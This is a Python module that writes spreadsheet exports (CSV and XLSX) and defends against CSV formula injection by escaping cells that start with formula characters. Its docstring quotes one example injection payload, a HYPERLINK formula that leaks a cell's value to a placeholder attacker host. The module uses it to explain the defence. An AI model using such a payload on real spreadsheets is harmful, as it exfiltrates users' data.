"""Cells of the spreadsheets people download (CSV and XLSX): every writer goes through here.

A text cell that starts with = + - @, a tab or a carriage return is run as a formula by spreadsheet programs
(CSV injection: `=HYPERLINK("http://evil.example/?"&A1,"x")` as a display name). Such text gets a leading `'`,
which shows it as text. XLSX cells are written with their type (text, number, date), never as formulas.
No library does this neutralisation (the csv module and openpyxl write what they are given), hence by hand.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # so spreadsheet programs read the file as UTF-8 (names with accents)
CSV_CHUNK_ROWS = 500  # rows per streamed chunk: a long export never sits in memory whole

DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"  # the columns say UTC; Excel has no time zones

_NUMBER = (int, float, Decimal)


def neutralise(text: str) -> str:
    """Text as a spreadsheet must show it: never the start of a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def iso_utc(value: date | datetime) -> str:
    """ISO 8601; a moment in UTC with the zone stated (2026-01-31T09:00:00Z)."""
    if isinstance(value, datetime):
        return value.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return value.isoformat()


def csv_cell(value: Any) -> str:
    """A cell of a CSV file: numbers as they are, dates in ISO 8601, any other value as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, _NUMBER):
        return str(value)
    if isinstance(value, date):
        return iso_utc(value)
    return neutralise(str(value))  # str, lazy translations, enums' labels: all text


def csv_line(values: Sequence[Any]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([csv_cell(v) for v in values])
    return buffer.getvalue()


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The CSV as text chunks: a byte-order mark, the header, then the rows a few hundred at a time."""
    chunk = [BOM + csv_line(header)]
    for row in rows:
        chunk.append(csv_line(row))
        if len(chunk) >= CSV_CHUNK_ROWS:
            yield "".join(chunk)
            chunk = []
    if chunk:
        yield "".join(chunk)


def xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell | None:
    """A typed XLSX cell: text (neutralised, stored as a string even if it looks like a formula), a number, a date;
    None leaves the cell empty."""
    if value is None:
        return None
    if isinstance(value, bool):
        value = "yes" if value else "no"
    if isinstance(value, _NUMBER):
        return WriteOnlyCell(sheet, value=value)
    if isinstance(value, datetime):
        cell = WriteOnlyCell(sheet, value=value.astimezone(UTC).replace(tzinfo=None))
        cell.number_format = DATETIME_FORMAT
        return cell
    if isinstance(value, date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = DATE_FORMAT
        return cell
    # Control characters cannot be stored in XLSX at all (openpyxl refuses them): they are dropped.
    cell = WriteOnlyCell(sheet, value=neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value))))
    cell.data_type = "s"  # openpyxl would store any text starting with "=" as a formula
    return cell


def xlsx_row(sheet: WriteOnlyWorksheet, values: Sequence[Any]) -> None:
    sheet.append([xlsx_cell(sheet, value) for value in values])
